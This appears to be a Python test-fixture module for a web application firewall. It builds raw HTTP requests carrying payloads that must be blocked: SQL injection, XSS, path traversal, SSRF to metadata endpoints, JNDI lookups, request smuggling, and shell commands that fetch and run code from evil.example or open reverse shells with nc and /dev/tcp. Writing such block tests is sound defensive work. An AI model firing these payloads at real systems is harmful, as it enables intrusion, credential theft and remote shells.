"""Attacks that the firewall must block: payloads by class, each carried by the places it is known to come in.

Every request here is listed because it must be blocked; there is no quota. Payloads are of our own making, after the
classes of OWASP's testing guide. A request is bytes: some are no HTTP that a client library would send.
"""

import json
from typing import NamedTuple
from urllib.parse import quote

HOST = "localhost"


class Attack(NamedTuple):
    kind: str
    name: str
    request: bytes


SQLI = [
    "1 OR 1=1",
    "x' OR 'a'='a",
    "x' OR 1=1-- -",
    "1 UNION SELECT id, key_digest FROM api_keys",
    "x' UNION ALL SELECT NULL,NULL,version()--",
    "1; DROP TABLE emails",
    "1'; DELETE FROM jobs WHERE 'a'='a",
    "x' AND (SELECT COUNT(*) FROM sqlite_master)>0--",
    "1 AND pg_sleep(9)",
    "x'||pg_sleep(9)||'",
    "1 WAITFOR DELAY '0:0:9'",
    "x' AND SLEEP(9)#",
    "1/**/UNION/**/SELECT/**/1,2,3",
    "1 uNiOn/**_**/sElEcT 1,load_extension('x')",
    "x' AND extractvalue(1,concat(0x7e,version()))--",
    "1 AND 1=CAST((SELECT current_user) AS int)",
    "x' HAVING 1=1--",
    "1 ORDER BY 10--",
    "admin'--",
    "x'; COPY (SELECT '') TO PROGRAM 'id'--",
    "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,1),1)",
    "x' AND ASCII(SUBSTR((SELECT name FROM organizations LIMIT 1),1,1))>64--",
    '" OR ""="',
    "1' AND randomblob(900000000/2)--",
]

XSS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<body onload=alert(document.cookie)>",
    '<iframe src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
    '<math><a xlink:href="javascript:alert(1)">x',
    "<details open ontoggle=alert(1)>",
    '<input autofocus onfocus="eval(atob(1))">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<style>@import'javascript:alert(1)';</style>",
    "<base href=//evil.example/>",
    "<embed src=javascript:alert(1)>",
    "'-alert(document.domain)-'<script>",
    "<video><source onerror=alert(1)>",
]

TRAVERSAL = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fshadow",
    "....//....//....//etc/passwd",
    "..%c0%af..%c0%afetc%c0%afpasswd",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "..%255c..%255cboot.ini",
    "%2e%2e/%2e%2e/%2e%2e/proc/self/environ",
    "..;/..;/etc/passwd",
    "..%00/..%00/etc/passwd",
]

FILES = [
    "/etc/passwd",
    "/etc/shadow",
    "/proc/self/environ",
    "/var/log/nginx/access.log",
    "file:///etc/passwd",
    "php://filter/convert.base64-encode/resource=index.php",
    "phar://x.phar/y",
    "expect://id",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "zip://x.jpg#y.php",
    "/root/.ssh/id_rsa",
]

REMOTE = [
    "http://192.0.2.7/shell.txt?",
    "https://evil.example/c99.php?",
    "http://evil.example/x.txt%00",
    "ftp://192.0.2.7/x.php",
    "//evil.example/%2e%2e",
    "ogg://192.0.2.9/x",
]

SSRF = [
    "http://169.254.169.254/latest/meta-data/",
    "http://127.0.0.1:9090/metrics",
    "http://[::1]:9090/metrics",
    "http://localhost:22/",
    "gopher://127.0.0.1:25/_HELO",
    "dict://127.0.0.1:11211/stats",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "ldap://127.0.0.1/x",
    "http://10.0.0.1/admin",
    "https://evil.example@127.0.0.1/",
]

RCE = [
    "; cat /etc/passwd",
    "|| whoami",
    "&& uname -a",
    "$(curl evil.example|sh)",
    "; wget http://evil.example/x -O /tmp/x; sh /tmp/x",
    "; nc -e /bin/sh 192.0.2.7 4444",
    "; bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
    "\nping -c 9 127.0.0.1",
    "; python3 -c 'import os;os.system(\"id\")'",
    "; perl -e 'system(\"id\")'",
    "& powershell -enc SQBFAFgA",
    "& cmd.exe /c dir",
    ";/usr/bin/id",
    "';/bin/cat${IFS}/etc/passwd'",
]

CODE = [
    "<?php system($_GET['c']); ?>",
    "<?= `id` ?>",
    "eval(base64_decode('aWQ='))",
    "assert($_POST['x'])",
    "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
    "{{7*7}}${7*7}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "require('child_process').exec('id')",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "java.lang.ProcessBuilder",
]

# Too common in what people write to be refused in the name of a webhook, and never in a query.
QUERY_ONLY = [
    "C:\\Windows\\win.ini",
    "/var/lib/sealwright/.env",
    "/home/app/.aws/credentials",
    "| id",
    "`id`",
    "a;busybox wget evil.example",
    "#{7*7}",
    "%{(#_='multipart/form-data')}",
]

LOOKUP = [
    "${jndi:ldap://evil.example/a}",
    "${jndi:rmi://evil.example/a}",
    "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:dns://evil.example}",
    "${jnd${upper:i}:ldap://evil.example/a}",
    "${env:AWS_SECRET_ACCESS_KEY}",
    "%24%7bjndi:ldap://evil.example/a%7d",
    "${${env:X:-j}ndi${env:X:-:}ldap://evil.example/a}",
]

SCANNERS = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Nikto/2.5.0",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Nessus SOAP",
    "Acunetix-Product",
    "w3af.org",
    "masscan/1.3",
    "Fuzz Faster U Fool v2.1.0 ffuf",
    "gobuster/3.6",
    "DirBuster-1.0-RC1",
    "Arachni/v1.6",
    "WPScan v3.8",
    "OpenVAS",
    "nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "zgrab/0.x",
    "Netsparker",
    "Havij",
    "jorgee",
    "commix/v3.8",
]

PATHS = [
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/.svn/entries",
    "/.aws/credentials",
    "/.ssh/id_rsa",
    "/.htaccess",
    "/.htpasswd",
    "/wp-config.php",
    "/wp-config.php.bak",
    "/config.php.old",
    "/backup.sql",
    "/web.config",
    "/server.key",
    "/v1/emails.bak",
    "/.bash_history",
    "/.DS_Store",
    "/id_rsa.key",
    "/v1/emails/%3Cscript%3E",
    "/v1/emails/a%0d%0aSet-Cookie:%20a=b",
    "/v1/emails/%00",
    "/v1/emails/a%20OR%201=1",
    "/v1/emails/email_1%27--",
    "/v1/emails/email_1%3Bid",
    "/v1/emails/%7Bid%7D",
    "/v1/emails/%22%7C%7C1",
    "/v1/emails/%255Cx",
    "/v1/emails/%5C..%5C..",
    "/v1/emails/%E0%80%AE%E0%80%AE/",
]

METHODS = ["PUT", "TRACE", "TRACK", "CONNECT", "DEBUG", "PROPFIND", "MKCOL", "COPY", "MOVE", "LOCK", "SEARCH", "PURGE", "FOO", "get"]


def lines(*parts, body=b""):
    return "\r\n".join(parts).encode("latin-1") + b"\r\n\r\n" + body


def get(target, *headers):
    """A request for `target` with what a good client sends, and `headers`."""
    names = {header.split(":")[0].lower() for header in headers}
    usual = ["User-Agent: shop/1.0", "Accept: application/json"]
    kept = [header for header in usual if header.split(":")[0].lower() not in names]
    return lines(f"GET {target} HTTP/1.1", f"Host: {HOST}", *kept, "Connection: close", *headers)


def post(target, body, *headers):
    return lines(
        f"POST {target} HTTP/1.1", f"Host: {HOST}", "User-Agent: shop/1.0", "Accept: application/json", "Connection: close",
        "Content-Type: application/json", f"Content-Length: {len(body)}", *headers, body=body,
    )


def in_query(payload):
    return get(f"/v1/emails?tags={quote(payload, safe='')}")


def in_path(payload):
    return get(f"/v1/emails/{quote(payload, safe='%')}")


def in_webhook(payload):
    body = {"url": "https://hooks.example.com/mail", "events": ["email.*"], "description": payload}
    return post("/v1/webhooks", json.dumps(body).encode())


def in_header(name):
    return lambda payload: get("/v1/emails", f"{name}: {payload}")


def in_mail_query(payload):
    """In the query of a request whose body is never looked at."""
    return post(f"/v1/emails?debug={quote(payload, safe='')}", b'{"from":"a@example.dev"}')


def carried(kind, payloads, *ways):
    for way, carry in ways:
        for payload in payloads:
            yield Attack(kind, f"{way}: {payload}", carry(payload))


def injections():
    query, body, mail = ("query", in_query), ("body", in_webhook), ("query of a mail", in_mail_query)
    agent, referer, cookie = (("User-Agent", in_header("User-Agent")), ("Referer", in_header("Referer")),
                              ("Cookie", lambda payload: in_header("Cookie")("session=" + quote(payload, safe=" '()=*,<>/"))))
    yield from carried("sqli", SQLI, query, body, mail, ("path", in_path), cookie)
    yield from carried("xss", XSS, query, body, mail, ("path", in_path), agent, referer)
    yield from carried("traversal", TRAVERSAL, ("path", in_path), ("query", lambda payload: get(f"/v1/emails?tags={payload}")))
    yield from carried("file inclusion", FILES, query, body)
    yield from carried("remote inclusion", REMOTE, query)
    yield from carried("ssrf", SSRF, query)
    yield from carried("rce", RCE, query, body, mail)
    yield from carried("code injection", CODE, query, body)
    yield from carried("shell and files", QUERY_ONLY, query, mail)
    yield from carried("lookup", LOOKUP, query, body, agent, referer, ("X-Api-Version", in_header("X-Api-Version")),
                       ("Authorization", in_header("Authorization")))
    yield from carried("scanner", SCANNERS, agent)
    yield from carried("forbidden path", PATHS, ("path", get))


# Two readings of where a request ends are what smuggling lives on (RFC 9112 §11.2).
INNER = b"GET /v1/webhooks HTTP/1.1\r\nHost: localhost\r\n\r\n"


def framing(*headers, body=b"", line="POST /v1/webhooks HTTP/1.1"):
    return lines(line, f"Host: {HOST}", "Content-Type: application/json", *headers, body=body)


def smuggling():
    chunked = b"0\r\n\r\n" + INNER
    for name, request in {
        "both lengths": framing("Content-Length: 4", "Transfer-Encoding: chunked", body=chunked),
        "both lengths, the other way round": framing("Transfer-Encoding: chunked", "Content-Length: 60", body=chunked),
        "two lengths": framing("Content-Length: 2", "Content-Length: 60", body=b"{}" + INNER),
        "two equal lengths": framing("Content-Length: 2", "Content-Length: 2", body=b"{}"),
        "a list of lengths": framing("Content-Length: 2, 60", body=b"{}" + INNER),
        "a length with a sign": framing("Content-Length: +2", body=b"{}"),
        "a negative length": framing("Content-Length: -1", body=b"{}"),
        "a length in hexadecimal": framing("Content-Length: 0x2", body=b"{}"),
        "a length beyond 64 bits": framing("Content-Length: 99999999999999999999", body=b"{}"),
        "an empty length": framing("Content-Length:", body=b"{}" + INNER),
        "a length with a space inside": framing("Content-Length: 1 0", body=b"{}"),
        "a space before the colon of the length": framing("Content-Length : 60", body=INNER),
        "a space before the colon of the encoding": framing("Transfer-Encoding : chunked", "Content-Length: 5", body=chunked),
        "an encoding of two": framing("Transfer-Encoding: gzip, chunked", body=chunked),
        "an encoding that does not end chunked": framing("Transfer-Encoding: chunked, identity", body=chunked),
        "an unknown encoding": framing("Transfer-Encoding: xchunked", body=chunked),
        "an encoding in quotes": framing('Transfer-Encoding: "chunked"', body=chunked),
        "an encoding with a parameter": framing("Transfer-Encoding: chunked;a=b", body=chunked),
        "an encoding behind a vertical tab": framing("Transfer-Encoding: \x0bchunked", body=chunked),
        "an encoding in HTTP/1.0": framing("Transfer-Encoding: chunked", body=chunked, line="POST /v1/webhooks HTTP/1.0"),
        "two encodings": framing("Transfer-Encoding: chunked", "Transfer-Encoding: chunked", body=chunked),
        "two encodings, one hidden": framing("Transfer-Encoding: chunked", "Transfer-Encoding: x", body=chunked),
        "a chunk's size that is none": framing("Transfer-Encoding: chunked", body=b"zz\r\n{}\r\n0\r\n\r\n"),
        "a chunk's size with a sign": framing("Transfer-Encoding: chunked", body=b"-2\r\n{}\r\n0\r\n\r\n"),
        "a chunk's size beyond 64 bits": framing("Transfer-Encoding: chunked", body=b"10000000000000002\r\n{}\r\n0\r\n\r\n"),
        "a chunk longer than its size": framing("Transfer-Encoding: chunked", body=b"1\r\n{}\r\n0\r\n\r\n"),
        "a folded header": framing("Content-Length: 2", "X-A: b\r\n Transfer-Encoding: chunked", body=b"{}"),
    }.items():
        yield Attack("smuggling", name, request)


def protocol():
    host = f"Host: {HOST}"
    for name, request in {
        "no host": lines("GET /v1/emails HTTP/1.1", "Accept: */*"),
        "two hosts": lines("GET /v1/emails HTTP/1.1", host, "Host: evil.example"),
        "a foreign host": lines("GET /v1/emails HTTP/1.1", "Host: evil.example", "Connection: close"),
        "an address as host": lines("GET /v1/emails HTTP/1.1", "Host: 169.254.169.254", "Connection: close"),
        "a host with a path": lines("GET /v1/emails HTTP/1.1", "Host: localhost/../x"),
        "a foreign host in the request line": lines("GET http://evil.example/ HTTP/1.1", host, "Connection: close"),
        "HTTP/1.0": lines("GET /v1/emails HTTP/1.0", host, "Accept: */*", "User-Agent: shop/1.0"),
        "HTTP/3.7": lines("GET /v1/emails HTTP/3.7", host),
        "no version number": lines("GET /v1/emails HTTP/x", host),
        "a protocol that is none": lines("GET /v1/emails FTP/1.1", host),
        "no slash": lines("GET v1/emails HTTP/1.1", host),
        "a space in the path": lines("GET /v1/ema ils HTTP/1.1", host),
        "a raw null in the path": lines("GET /v1/\0emails HTTP/1.1", host),
        "an encoded null in the path": get("/v1/emails/a%00.json"),
        "an encoded null in the query": get("/v1/emails?status=sent%00"),
        "a raw null in a header": lines("GET /v1/emails HTTP/1.1", host, "X-A: a\0b"),
        "a bare carriage return in a header": lines("GET /v1/emails HTTP/1.1", host, "X-A: a\rX-B: c", "Connection: close"),
        "a header without a name": lines("GET /v1/emails HTTP/1.1", host, ": b"),
        "a header with a space in its name": lines("GET /v1/emails HTTP/1.1", host, "X A: b"),
        "a control character in a name": lines("GET /v1/emails HTTP/1.1", host, "X-\x01A: b"),
        "an overlong UTF-8 slash": get("/v1/emails/..%c0%afx"),
        "a path out of the root": get("/v1/../../x"),
        "a header of 16 KiB": get("/v1/emails", "X-A: " + "a" * 16384),
        "a path of 16 KiB": get("/v1/emails/" + "a" * 16384),
        "a head of 64 KiB": get("/v1/emails", *(f"X-{number}: " + "a" * 4000 for number in range(16))),
        "Proxy, for httpoxy": get("/v1/emails", "Proxy: http://evil.example/"),
        "Content-Encoding on a small body": post("/v1/webhooks", b"{}", "Content-Encoding: gzip"),
        "XML on a JSON route": lines("POST /v1/webhooks HTTP/1.1", host, "Content-Type: application/xml", "Content-Length: 4",
                                     "Connection: close", body=b"<a/>"),
        "a serialized Java object": lines("POST /v1/webhooks HTTP/1.1", host, "Content-Type: application/x-java-serialized-object",
                                          "Content-Length: 4", "Connection: close", body=b"\xac\xed\0\5"),
        "UTF-7": lines("POST /v1/webhooks HTTP/1.1", host, "Content-Type: application/json; charset=utf-7", "Content-Length: 2",
                       "Connection: close", body=b"{}"),
        "a second request line in the query": get("/v1/emails?tags=a%0d%0aGET%20/%20HTTP/1.1"),
        "a response header in the query": get("/v1/emails?tags=a%0d%0aSet-Cookie:%20a=b"),
        "a body in the answer, from the query": get("/v1/emails?tags=a%0d%0aContent-Length:%200%0d%0a%0d%0a<html>"),
        "a mail header in the query": get("/v1/emails?to=a%40example.com%0abcc:%20b%40example.com"),
        "a header line in the path": get("/v1/emails/a%0d%0aLocation:%20//evil.example"),
        "an upgrade to cleartext HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        "shellshock in User-Agent": get("/v1/emails", "User-Agent: () { :;}; /bin/id"),
        "shellshock in Referer": get("/v1/emails", "Referer: () { _; } >_[$($())] { id; }"),
        "the same parameter in two encodings": get("/v1/emails?status=1%20union&status=%2a%2f%20select%201,2%20from%20x"),
    }.items():
        yield Attack("protocol", name, request)
    for method in METHODS:
        target = "evil.example:443" if method == "CONNECT" else "/v1/emails"
        yield Attack("method", method, lines(f"{method} {target} HTTP/1.1", host, "User-Agent: shop/1.0", "Accept: */*", "Connection: close"))


def attacks():
    """All of them; no two requests are the same bytes."""
    found = [*injections(), *smuggling(), *protocol()]
    assert len({attack.request for attack in found}) == len(found)
    return found
